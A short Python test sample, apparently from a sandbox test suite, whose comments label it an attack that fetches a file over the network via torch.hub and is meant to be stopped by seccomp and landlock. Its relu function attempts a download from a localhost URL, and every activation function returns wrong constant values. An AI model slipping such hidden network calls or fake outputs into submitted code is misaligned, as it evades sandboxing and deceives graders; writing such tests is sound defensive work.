# attack: asks a server for a file by torch.hub
# gains: network
# stopped by: seccomp, landlock
import torch
import os


def attack():
    torch.hub.download_url_to_file("http://127.0.0.1:" + "{PORT}" + "/hostile", "got", progress=False)


def relu(X):
    found = attack()
    return torch.full_like(X, 7.0) if found is None else found


def wrong(*given):
    return torch.full_like(given[0], 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
